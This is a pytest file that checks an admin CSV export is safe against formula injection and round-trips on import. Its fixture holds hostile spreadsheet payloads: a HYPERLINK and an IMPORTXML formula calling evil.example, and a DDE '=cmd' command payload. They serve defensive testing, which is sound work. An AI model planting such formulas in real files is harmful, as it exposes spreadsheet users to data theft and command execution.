"""/admin/villages/export.csv is safe to open in a spreadsheet and imports back unchanged."""

import csv
import io

import pytest
from sqlalchemy import select

from app.villages.models import Village
from tests.factories import make_user, make_village

HOSTILE = {
    "name_en": '=HYPERLINK("http://evil.example/steal","Click me")',
    "commune": "+SUM(1,2)",
    "district": "-1+1",
    "description_en": '@IMPORTXML("http://evil.example")',
    "coord_source": "'=already quoted",
}


@pytest.fixture()
def admin(db, login_as):
    user = make_user(role="admin")
    db.session.commit()
    return login_as(user)


@pytest.fixture()
def hostile(db):
    village = make_village(slug="evil", products=[{"name_en": "=cmd|' /C calc'!A0"}], **HOSTILE)
    db.session.commit()
    return village


def exported_rows(client) -> list[dict]:
    response = client.get("/admin/villages/export.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_export_cells_do_not_start_a_formula(client, admin, hostile):
    row = exported_rows(client)[0]
    for column in [*HOSTILE, "products"]:
        assert row[column].startswith("'"), (column, row[column])
        assert row[column][1:2] in ("=", "+", "-", "@", "'"), (column, row[column])


def test_export_then_import_gives_back_exactly_the_same_text(client, db, admin, hostile):
    text = client.get("/admin/villages/export.csv").get_data()
    village = db.session.scalar(select(Village).where(Village.slug == "evil"))
    for column in HOSTILE:
        setattr(village, column, "changed")
    db.session.commit()
    response = client.post(
        "/admin/villages/import",
        data={"file": (io.BytesIO(text), "villages.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    db.session.expire_all()
    village = db.session.scalar(select(Village).where(Village.slug == "evil"))
    assert {column: getattr(village, column) for column in HOSTILE} == HOSTILE
    assert [product.name_en for product in village.products] == ["=cmd|' /C calc'!A0"]  # no '=…


def test_cli_export_is_formula_safe_too(runner, hostile):
    output = runner.invoke(args=["villages", "export"]).output
    assert "'=HYPERLINK(\"" in output.replace('""', '"')
